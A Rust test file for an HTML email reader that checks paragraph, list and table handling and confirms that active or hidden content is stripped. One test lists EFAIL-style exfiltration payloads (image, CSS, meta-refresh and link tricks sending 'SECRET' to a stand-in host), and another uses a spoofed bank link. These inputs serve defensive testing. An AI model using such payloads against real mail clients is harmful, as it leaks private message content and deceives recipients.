//! HTML of all kinds, and what stays of it.

use super::*;
use crate::tree::Column;

fn shown() -> Vec<Shown> {
    vec![Shown {
        id: "p@x".into(),
        width: 400,
        height: 100,
    }]
}

fn blocks(html: &str) -> Vec<Block> {
    read(html, &shown()).blocks
}

fn json(html: &str) -> String {
    serde_json::to_string(&blocks(html)).expect("JSON")
}

/// The text of a tree, with marks of what it is.
fn said(html: &str) -> String {
    fn runs(list: &[Run]) -> String {
        list.iter()
            .map(|run| match run {
                Run::Text { t, mark } => match &mark.u {
                    Some(u) => format!("[{t}]({u})"),
                    None if mark.b => format!("*{t}*"),
                    None => t.clone(),
                },
                Run::Break { .. } => "/".into(),
                Run::Picture { alt, .. } => format!("{{{alt}}}"),
                Run::Missing { missing, .. } => format!("({missing})"),
            })
            .collect()
    }
    fn all(blocks: &[Block]) -> String {
        blocks
            .iter()
            .map(|block| match block {
                Block::P(p) => format!("{}<{}>", if p.tight { "" } else { "_" }, runs(&p.r)),
                Block::H { n, p } => format!("h{n}<{}>", runs(&p.r)),
                Block::Quote { b } => format!("Q{{{}}}", all(b)),
                Block::Ground { b, fit, .. } => {
                    format!("{}{{{}}}", if *fit { "B" } else { "G" }, all(b))
                }
                Block::List { items, first } => {
                    let items: Vec<String> = items.iter().map(|item| all(item)).collect();
                    format!(
                        "L{}{{{}}}",
                        first.map_or(String::new(), |n| n.to_string()),
                        items.join(";")
                    )
                }
                Block::Table(t) => {
                    let cells: Vec<String> = t
                        .cells
                        .iter()
                        .map(|c| format!("{}.{}{}", c.x, c.y, all(&c.b)))
                        .collect();
                    format!("{}{{{}}}", if t.data { "T" } else { "t" }, cells.join("|"))
                }
                Block::Rule => "---".into(),
                Block::Pre { lines } | Block::Log { lines } => {
                    format!("PRE{{{}}}", lines.join("/"))
                }
            })
            .collect()
    }
    all(&blocks(html))
}

#[test]
fn paragraphs_are_told_by_what_people_type() {
    assert_eq!(said("<p>a</p><p>b<br>c</p>"), "_<a>_<b/c>");
    assert_eq!(said("a<br><br>b<br>c"), "<a>_<b/c>");
    assert_eq!(
        said("<div>a</div><div>b</div><div><br></div><div>c</div>"),
        "<a><b>_<c>"
    );
    assert_eq!(
        said("<p style='margin:0'>a</p><p style='margin:0'>&nbsp;</p><p style='margin:0'>b</p>"),
        "<a>_<b>"
    );
    assert_eq!(said("a  <b> b </b>\n c"), "<a *b *c>");
}

#[test]
fn nothing_active_and_nothing_hidden_comes_through() {
    let html = "<html><head><title>t</title><style>p{x:y}</style></head><body><script>s()</script>\
        <div style='display:none'>pre</div><div style='max-height:0;overflow:hidden'>pre</div>\
        <p onclick='x()'>a<iframe src='https://x.example'>i</iframe><object data='x'>o</object>\
        <svg><text>v</text></svg><form><input value='f'><textarea>ta</textarea></form><noscript>n</noscript></p></body>";
    assert_eq!(said(html), "_<a>");
    let json = json(html);
    assert!(!json.contains("onclick") && !json.contains("x.example"));
}

#[test]
fn efail_and_other_ways_out_lead_nowhere() {
    for html in [
        "<img src='http://x.example/?SECRET'>",
        "<img src=\"http://x.example/\nSECRET\">",
        "<p style='background:url(http://x.example/)'>a</p>",
        "<link rel=stylesheet href='http://x.example/a.css'>a",
        "<style>@import 'http://x.example/a.css';p{background:url(http://x.example/)}</style><p>a</p>",
        "<meta http-equiv=refresh content='0;url=http://x.example/'>a",
        "<body background='http://x.example/'>a",
        "<table background='http://x.example/'><tr><td>a</td></tr></table>",
        "<video poster='http://x.example/'></video>a",
        "<input type=image src='http://x.example/'>a",
        "<base href='http://x.example/'><a href='//y'>a</a>",
        "<a href='javascript:x.example'>a</a>",
        "<a href='data:text/html,x.example'>a</a>",
        "<a ping='http://x.example/' href='tel:1'>a</a>",
        "<img srcset='http://x.example/ 2x' src='cid:none'>a",
    ] {
        assert!(!json(html).contains("x.example"), "{html}: {}", json(html));
    }
}

#[test]
fn remote_pictures_are_counted_and_named() {
    let tree = read(
        "<img src='https://x.example/1.png' alt='Bild'><img src='https://x.example/t.gif' width=1 height=1>\
         <img src='https://x.example/2.png'>",
        &[],
    );
    assert_eq!(tree.remote, 2);
    assert_eq!(
        said("<img src='https://x.example/1.png' alt='Bild'>"),
        "<(Bild)>"
    );
    assert_eq!(
        said("<p>a <img src='cid:p@x' alt='Logo'></p>"),
        "_<a {Logo}>"
    );
}

#[test]
fn a_link_that_says_one_host_and_leads_to_another_is_told() {
    assert_eq!(
        said("<a href='https://evil.example/x'>www.bank.example</a>"),
        "<[www.bank.example](https://evil.example/x) [evil.example]>"
    );
    assert_eq!(
        said("<a href='https://bank.example/x'>https://www.bank.example/y</a>"),
        "<[https://www.bank.example/y](https://bank.example/x)>"
    );
    assert_eq!(
        said("<a href='https://evil.example/x'>hier klicken</a>"),
        "<[hier klicken](https://evil.example/x)>"
    );
}

#[test]
fn quotes_lists_and_headings() {
    assert_eq!(
        said("a<blockquote>b<blockquote>c</blockquote></blockquote>d"),
        "<a>Q{<b>Q{<c>}}_<d>"
    );
    assert_eq!(
        said("<ul><li>a<li>b<ul><li>c</ul></ul>"),
        "L{<a>;<b>L{<c>}}"
    );
    assert_eq!(said("<ol start=3><li>a</ol>"), "L3{<a>}");
    assert_eq!(
        said("<h2>a</h2><hr><pre>x\n  y</pre>"),
        "h2<*a*>---PRE{x/  y}"
    );
    assert_eq!(
        said("<div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3pt'><p>a</p></div>"),
        "---_<a>"
    );
}

#[test]
fn tables_of_data_and_tables_for_the_looks() {
    let data =
        "<table border=1><tr><th>a<th>b</tr><tr><td rowspan=2>c<td>d</tr><tr><td>e</tr></table>";
    assert_eq!(said(data), "T{0.0<*a*>|1.0<*b*>|0.1<c>|1.1<d>|1.2<e>}");
    let Block::Table(table) = &blocks(data)[0] else {
        panic!()
    };
    assert_eq!((table.head, table.rows, table.cells[2].h), (1, 3, 2));
    assert_eq!(table.columns, [Column::Auto, Column::Auto]);
    assert_eq!(said("<table><tr><td>a<td>b</table>"), "t{0.0<a>|1.0<b>}");
    assert_eq!(
        said("<table width=100%><tr><td><table><tr><td>a</table></td></tr><tr><td>b</table>"),
        "<a><b>"
    );
    let button = "<table><tr><td bgcolor='#0b6e4f'><a href='https://x.example' style='color:#fff'>Los</a></table>";
    assert_eq!(said(button), "B{<[Los](https://x.example)>}");
}

#[test]
fn letters_that_nobody_could_read_become_readable() {
    assert!(!json("<p style='color:#fff'>a</p>").contains("#ffffff"));
    assert!(
        json("<table><tr><td bgcolor='#12372a' style='color:#fff'>a<td>b</table>")
            .contains("\"c\":\"#ffffff\"")
    );
    assert!(json("<p style='color:#c0392b'>a</p>").contains("#c0392b"));
}

#[test]
fn what_is_deep_or_long_ends_and_keeps_its_text() {
    let deep = format!("{}kern", "<div>".repeat(1_000));
    assert!(json(&deep).contains("kern"));
    let quotes = format!("{}kern", "<blockquote>".repeat(300));
    assert!(json(&quotes).contains("kern"));
    let tables = format!("{}kern", "<table border=1><tr><td>x<td>".repeat(60));
    assert!(json(&tables).contains("kern"));
    let rows = format!("<table border=1>{}</table>", "<tr><td>a<td>b".repeat(3_000));
    let all = blocks(&rows);
    assert!(
        all.iter()
            .filter(|b| matches!(b, Block::Table(t) if t.rows <= 200))
            .count()
            >= 9
    );
    assert!(blocks(&"<b>x</b><i>y</i>".repeat(30_000)).len() < 10);
    let mut depth = 0;
    let mut here = blocks(&format!(
        "{}kern",
        "<div style='border:1px solid red'>".repeat(100)
    ));
    while let Some(inside) = here.first_mut().map(|b| {
        b.inside()
            .into_iter()
            .flat_map(std::mem::take)
            .collect::<Vec<_>>()
    }) {
        depth += 1;
        here = inside;
    }
    assert!(depth <= crate::tree::DEEPEST + 1, "{depth}");
}
